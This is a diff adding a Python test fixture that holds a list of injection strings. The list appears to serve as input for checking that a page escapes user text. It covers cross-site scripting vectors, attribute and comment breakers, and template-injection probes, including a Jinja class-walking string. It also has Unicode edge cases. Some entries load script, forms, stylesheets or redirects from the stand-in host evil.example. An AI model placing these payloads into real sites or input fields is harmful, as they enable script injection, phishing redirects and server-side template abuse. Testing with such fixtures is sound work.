@@ -1,0 +1,72 @@
+"""Sixty texts that somebody could write to make a page do something, or look like something else. All on one line."""
+
+SCRIPTS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example></sCrIpT>",
+    "</script><script>alert(1)</script>",
+    "<script/x>alert(1)</script/x>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src='x'/onerror='alert(1)'>",
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
+    "<math><mtext></p><p><script>alert(1)</script>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data='javascript:alert(1)'>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<form action='//evil.example'><button>Logg inn</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<a href='javascript:alert(1)'>her</a>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<style>*{display:none}</style>",
+    "<base href='//evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<div hx-get='/logout' hx-trigger='load'>",
+    "<p hx-on:click='alert(1)'>",
+)
+BREAKERS = (
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    '" style="position:fixed',
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</li></ol></main><h1>Loggen er slettet</h1>",
+    "--><script>alert(1)</script><!--",
+    "]]><b>ut</b><![CDATA[",
+    "<!-- resten er borte",
+    "<!doctype html><html>",
+    "<?xml version='1.0'?>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&quot;&gt;&#x3c;b&#x3e;",
+    "`${alert(1)}`",
+)
+TEMPLATES = (
+    "{{ 7 * 7 }}",
+    "{{ config }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "{# borte #}",
+    "{name} {n} {0} {} {name!r}",
+    "%(name)s %s %d %%",
+    "${7*7} #{7*7} <%= 7*7 %>",
+)
+LETTERS = (
+    "\u202eslettet er loggen\u202c",  # turns what follows around
+    "\u2066\u2067\u2068 ulukkede isolater",
+    "\u200b\u200c\u200d\ufeff\u2060 ingen bredde",
+    "Kari\u200b Nilsen\u00ad",
+    "هذا نص عربي مع English و 123 <b>",
+    "א\u200fב\u200eג <i>abc</i>",
+    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
+    "👨‍👩‍👧‍👦🏳️‍🌈\U0001f1f3\U0001f1f4",
+    "\U000e0041\U000e0042 merkelapper",
+    "ﷺ ﷽ \U0001d4a6\U0001d4b6\U0001d4c7\U0001d4be",
+    "None null undefined NaN true 0 -1 1e309",
+)
+PAYLOADS = (*SCRIPTS, *BREAKERS, *TEMPLATES, *LETTERS, "x" * 480, "<b>" * 150, "&" * 300)
+PLAIN = "Hun lo hele veien hjem."
